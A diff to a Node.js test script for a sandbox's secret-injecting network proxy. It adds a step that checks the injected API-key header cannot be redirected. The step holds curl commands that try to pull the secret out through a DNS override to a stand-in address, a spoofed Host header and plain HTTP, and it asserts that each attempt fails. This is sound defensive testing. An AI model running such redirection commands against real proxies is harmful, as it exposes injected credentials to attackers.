@@ -6,11 +6,13 @@
 // internet's record, which request carried which value.
 //
 //   SECRET_NAME=<name> SECRET1=<value> SECRET2=<value> BLUE_KEY=<a key of another team>
-//   node secrets.mjs e2b@2.51.0
+//   FAKE_B=203.0.113.10 node secrets.mjs e2b@2.51.0
 //
 // Requests go to https://api.allowed.test/secret-<n>: 1 carries SECRET1,
-// 2 carries SECRET2 (after Secret.update), 3 must not reach the upstream
-// (after Secret.destroy). Each step prints "ok   <step>"; the first
+// 2, 2b and 2c carry SECRET2 (after Secret.update), 3 must not reach the
+// upstream (after Secret.destroy), nor must the sandbox's attempts to
+// steer the header elsewhere (secret-stolen-<n>); secret-plain goes over
+// plain HTTP, with the sandbox's own header only. Each step prints "ok   <step>"; the first
 // failure "FAIL <step>: …".
 
 import assert from 'node:assert/strict'
@@ -29,6 +31,7 @@ const env = (k) => {
   return v
 }
 const NAME = env('SECRET_NAME'), SECRET1 = env('SECRET1'), SECRET2 = env('SECRET2'), BLUE = env('BLUE_KEY')
+const FAKE_B = env('FAKE_B')
 const HOST = 'api.allowed.test'
 const created = []
 onFailure(() => Promise.allSettled(created.map((s) => s.kill())))
@@ -160,6 +163,28 @@ await step("another team's key neither sees nor uses the secret", async () => {
   )
   // The secret is unharmed.
   assert.equal((await Secret.getInfo(NAME)).version, 2)
+})
+
+await step('the sandbox cannot steer the header elsewhere: another address, another Host, plain HTTP', async () => {
+  // No allowOut: the policy lets this sandbox reach B, whose server has a
+  // certificate for every name (the fake CA), so only the proxy's check
+  // that the rule's host resolves to the address dialled keeps the
+  // header from B.
+  const open = await Sandbox.create({
+    timeoutMs: 300_000,
+    network: { rules: { [HOST]: [{ transform: { headers: { 'X-Api-Key': `Bearer ${Secret.fill(NAME)}` } } }] } },
+  })
+  created.push(open)
+  const elsewhere = await sh(open, `curl -sS --max-time 20 --resolve ${HOST}:443:${FAKE_B} https://${HOST}/secret-stolen-1`)
+  assert.notEqual(elsewhere.code, 0, `a request for ${HOST} sent to ${FAKE_B} went through: ${elsewhere.out}`)
+  const otherHost = await sh(open, `curl -sS --max-time 20 -H 'Host: b.test' -w '\nstatus=%{http_code}' https://${HOST}/secret-stolen-2`)
+  assert.match(otherHost.out, /status=421$/, otherHost.out)
+  const plain = await sh(open, `curl -sS --max-time 20 -H 'X-Api-Key: from-the-sandbox' http://${HOST}/secret-plain`)
+  assert.equal(plain.code, 0, plain.out)
+  notIn(elsewhere.out + otherHost.out + plain.out, 'what the sandbox got back')
+  // The rule still works where it should.
+  const r = await request(open, 'secret-2c')
+  assert.equal(r.status, 200, r.body)
 })
 
 await step('an unknown name is refused at create and at updateNetwork, naming it', async () => {
